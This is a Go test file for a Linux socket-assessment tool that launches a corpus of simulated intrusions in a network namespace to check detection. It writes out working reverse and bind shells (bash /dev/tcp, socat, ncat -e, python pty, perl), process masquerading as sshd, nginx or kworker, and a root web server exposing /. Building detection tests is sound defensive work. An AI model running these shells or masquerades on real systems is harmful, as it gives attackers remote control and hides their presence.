//go:build linux

package assess

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/portwatch/portwatch/sockets"
)

// corpusAttack is one attacker's socket, made by a real process in the
// attackers' namespace: the kit of a break-in (bind and reverse shells,
// renamed copies of tools, inline code, a kernel thread's name). Every one
// must be caught: HIGH, with one of the findings that say what it is.
type corpusAttack struct {
	name   string
	script string // run as root in the namespace; ends by exec'ing the attacker's process
	listen uint16 // the process listens here; 0: it holds a connection to the peer's rport
	rport  uint16
	caught []string // one of these findings, HIGH
	// child: the listener is held by a child of the started process (a
	// shell wrapper), so it is found by its port alone.
	child bool
	pid   int
}

func (a *corpusAttack) find(vs []*Verdict) *Verdict {
	for _, v := range vs {
		s := &v.Socket
		mine := a.child && a.listen != 0 && len(s.Owners) > 0
		for _, p := range s.Owners {
			mine = mine || int(p.PID) == a.pid
		}
		switch {
		case !mine:
		case a.listen != 0 && s.IsListening() && s.LPort == a.listen:
			return v
		case a.listen == 0 && s.State == sockets.StateEstablished && s.RPort == a.rport:
			return v
		}
	}
	return nil
}

func (a *corpusAttack) judge(v *Verdict) corpusRow {
	row := corpusRow{who: "attack: " + a.name, v: v, attack: true}
	var why []string
	if v.Risk < RiskHigh {
		why = append(why, "risk "+v.Risk.String())
	}
	found := false
	for _, c := range a.caught {
		if f := hasCode(v.Findings, c); f != nil && f.Severity >= RiskHigh {
			found = true
		}
	}
	if !found {
		why = append(why, "none of "+strings.Join(a.caught, ", ")+" HIGH")
	}
	row.wrong = strings.Join(why, "; ")
	return row
}

// The peer's listener: accepts the reverse shells and holds them open.
const peerScript = `import socket,sys,threading,time
def serve(s):
    held=[]
    while True:
        c,_=s.accept(); held.append(c)
for p in sys.argv[1:]:
    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("` + corpusPeer + `", int(p))); s.listen(64)
    threading.Thread(target=serve, args=(s,), daemon=True).start()
print("ready", flush=True)
time.sleep(3600)
`

func peerSetup(t *testing.T, peer string) {
	t.Helper()
	script := scriptFile(t, peerScript)
	// The veth's address is usable once duplicate address detection is
	// done; bind may fail for a moment before.
	startReady(t, exec.Command("ip", "netns", "exec", peer, "python3", script, "443", "4444", "22"))
}

// A service's script, the way a disguised implant runs one: it listens
// (argv: port) or calls home (argv: host port) and holds the socket.
const implantScript = `import socket,sys,time,ctypes,os
if os.environ.get("PW_DELETE_SELF"):
    os.unlink(os.readlink("/proc/self/exe"))
if len(sys.argv) > 3:
    ctypes.CDLL(None).prctl(15, sys.argv[3].encode(), 0, 0, 0)  # PR_SET_NAME
if sys.argv[1] == "listen":
    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", int(sys.argv[2]))); s.listen()
else:
    s=socket.create_connection(("` + corpusPeer + `", int(sys.argv[2])))
time.sleep(3600)
`

func startAttacks(t *testing.T, ns string) []*corpusAttack {
	t.Helper()
	// A root-owned directory no package lists, as an attacker with root
	// makes one (/usr/local/lib/...): no world-writable place to give it
	// away.
	kit, err := os.MkdirTemp("/usr/local/lib", "portwatch-corpus-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(kit) })
	os.Chmod(kit, 0o755)
	copyTo := func(src, dst string) string {
		t.Helper()
		data, err := os.ReadFile(src)
		if err != nil {
			t.Skipf("no %s for the attacker's kit: %v", src, err)
		}
		os.MkdirAll(filepath.Dir(dst), 0o755)
		if err := os.WriteFile(dst, data, 0o755); err != nil {
			t.Fatal(err)
		}
		return dst
	}
	py := realPython(t)
	implant := scriptFile(t, implantScript)
	sshd := copyTo(py, filepath.Join(kit, "sbin", "sshd"))
	httpd := copyTo(py, filepath.Join(kit, "bin", "httpd"))
	shm, err := os.MkdirTemp("/dev/shm", ".pw-corpus-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(shm) })
	dropped := copyTo(py, filepath.Join(shm, "dbus-daemon"))

	attacks := []*corpusAttack{
		{name: "python copy as sshd on 22", script: fmt.Sprintf("exec %s %s listen 22", sshd, implant), listen: 22, caught: []string{CodeUnownedExe}},
		{name: "socat bind shell", script: "exec socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh", listen: 4444, caught: []string{CodeExecTool}},
		{name: "socat reverse shell to 443", script: "exec socat TCP:" + corpusPeer + ":443 EXEC:'bash -li',pty,stderr,setsid", rport: 443, caught: []string{CodeExecTool, CodeReverseShell}},
		{name: "bash /dev/tcp reverse shell to 443", script: "exec bash -i >& /dev/tcp/" + corpusPeer + "/443 0>&1", rport: 443, caught: []string{CodeReverseShell}},
		{name: "python3 -c pty reverse shell to 443", script: `exec python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("` + corpusPeer + `",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
			rport: 443, caught: []string{CodeReverseShell, CodeInlineCode}},
		{name: "python3 -c listening on 443", script: `exec python3 -c 'import socket,time;s=socket.socket();s.bind(("0.0.0.0",443));s.listen();time.sleep(3600)'`,
			listen: 443, caught: []string{CodeInlineCode}},
		{name: "perl -e reverse shell to 443", script: `exec perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(443,inet_aton("` + corpusPeer + `")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
			rport: 443, caught: []string{CodeReverseShell}},
		{name: "kworker-named beacon to 443", script: fmt.Sprintf("exec -a '[kworker/0:2]' python3 %s connect 443 kworker/0:2", implant), rport: 443, caught: []string{CodeKernelName}},
		{name: "kworker-named listener", script: fmt.Sprintf("exec -a 'kworker/u8:1' python3 %s listen 8443 kworker/u8:1", implant), listen: 8443, caught: []string{CodeKernelName}},
		{name: "deleted httpd listening", script: fmt.Sprintf("PW_DELETE_SELF=1 exec %s %s listen 8000", httpd, implant), listen: 8000, caught: []string{CodeDeletedExe}},
		{name: "binary in /dev/shm listening", script: fmt.Sprintf("exec %s %s listen 9999", dropped, implant), listen: 9999, caught: []string{CodeWorldWritableExe}},
	}
	if ncat, err := exec.LookPath("ncat"); err == nil {
		nginx := copyTo(ncat, filepath.Join(kit, "sbin", "nginx"))
		attacks = append(attacks,
			&corpusAttack{name: "ncat copy as nginx, -e /bin/sh", script: "exec " + nginx + " -lk 0.0.0.0 8080 -e /bin/sh", listen: 8080, caught: []string{CodeUnownedExe, CodeExecTool}},
			&corpusAttack{name: "ncat reverse shell to 443", script: "exec ncat " + corpusPeer + " 443 -e /bin/sh", rport: 443, caught: []string{CodeExecTool, CodeReverseShell}},
			&corpusAttack{name: "ncat --sh-exec bind shell", script: "exec ncat -lk 31337 --sh-exec 'bash -i'", listen: 31337, caught: []string{CodeExecTool}},
		)
	}
	socat, _ := exec.LookPath("socat")
	if socat != "" {
		redis := copyTo(socat, filepath.Join(kit, "bin", "redis-server"))
		attacks = append(attacks, &corpusAttack{name: "socat copy as redis-server, EXEC", script: "exec " + redis + " TCP-LISTEN:6379,reuseaddr,fork EXEC:/bin/sh", listen: 6379, caught: []string{CodeUnownedExe, CodeExecTool}})
	}
	// A user's own root entered by pivot_root from `unshare -r`, run as
	// nobody: a copy of python3 at its /usr/bin/redis-server.
	if _, err := exec.LookPath("pivot_root"); err != nil {
		t.Logf("skip attack in a user's own root: pivot_root is not installed")
	} else if why := userNamespacesClosed(); why != "" {
		t.Logf("skip attack in a user's own root: %s", why)
	} else {
		attacks = append(attacks, &corpusAttack{name: "python as redis-server in a root nobody owns (unshare -r, pivot_root)",
			script: "D=" + userRoot(t, 6380) + " exec setpriv --reuid=nobody --regid=nogroup --clear-groups unshare -r -m sh -c '" + userPivotMount + userLibs + userPivotEnter + "'",
			listen: 6380, caught: []string{CodeUnownedExe}})
	}
	// A real daemon's binary copied under another name: no claim to
	// make, so it is judged as the unknown listener it is.
	if rs, err := exec.LookPath("redis-server"); err == nil {
		helper := copyTo(rs, filepath.Join(kit, "bin", "kit-helper"))
		attacks = append(attacks, &corpusAttack{name: "redis-server's binary copied as kit-helper", script: "exec " + helper + " --port 8083 --bind 0.0.0.0 --save '' --protected-mode no",
			listen: 8083, caught: []string{CodeUnknownListener}})
	}
	// A daemon's real binary under a daemon's name, started by a shell
	// wrapper that stays its parent.
	if rs, err := exec.LookPath("redis-server"); err == nil {
		fake := copyTo(rs, filepath.Join(kit, "usr", "sbin", "nginx"))
		attacks = append(attacks, &corpusAttack{name: "redis-server's binary copied as nginx, started by sh", script: "sh -c '" + fake + " --port 8081 --bind 0.0.0.0 --protected-mode no; true'",
			listen: 8081, child: true, caught: []string{CodeUnownedExe}})
	}
	attacks = append(attacks,
		// The packaged python3, renamed (PR_SET_NAME) after a daemon.
		&corpusAttack{name: "python3 renamed sshd on 2222", script: fmt.Sprintf("exec %s %s listen 2222 sshd", py, implant), listen: 2222, caught: []string{CodeRenamedProcess}},
		&corpusAttack{name: "python3 renamed nginx on 80", script: fmt.Sprintf("exec %s %s listen 80 nginx", py, implant), listen: 80, caught: []string{CodeRenamedProcess}},
		// argv[0] alone rewritten: the name the kernel keeps is python's.
		&corpusAttack{name: "python3 with argv[0] /usr/sbin/sshd on 2223", script: fmt.Sprintf("exec -a /usr/sbin/sshd %s %s listen 2223", py, implant), listen: 2223, caught: []string{CodeUnknownListener}},
		&corpusAttack{name: "socat UDP relay to the peer's DNS", script: "exec socat UDP-LISTEN:5353,fork,reuseaddr UDP:" + corpusPeer + ":53", listen: 5353, caught: []string{CodePivot}},
	)
	attacks = append(attacks,
		// A relay into the next network is a pivot, not a shell.
		&corpusAttack{name: "socat relay to the peer's ssh", script: "exec socat TCP-LISTEN:8082,fork,reuseaddr TCP:" + corpusPeer + ":22", listen: 8082, caught: []string{CodePivot}},
		// Root's working directory, served to anyone: /etc/shadow with it.
		&corpusAttack{name: "python3 -m http.server as root in /", script: "cd / && exec python3 -m http.server 8088", listen: 8088, caught: []string{CodeFileServer}},
		// A shell reading commands from a descriptor it opened itself, not
		// from its standard input.
		&corpusAttack{name: "bash reading commands from fd 3 (/dev/tcp to 443)", script: "exec bash -c 'exec 3<>/dev/tcp/" + corpusPeer + "/443; while read -r l <&3; do eval \"$l\" >&3 2>&1; done'",
			rport: 443, caught: []string{CodeShellConnection, CodeReverseShell}},
	)
	var run []*corpusAttack
	for _, a := range attacks {
		if strings.Contains(a.script, "socat") && socat == "" {
			t.Logf("skip attack %s: socat is not installed", a.name)
			continue
		}
		run = append(run, a)
		cmd := exec.Command("ip", "netns", "exec", ns, "bash", "-c", a.script)
		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		a.pid = cmd.Process.Pid
		go cmd.Wait()
		t.Cleanup(func() { syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) })
	}
	return run
}
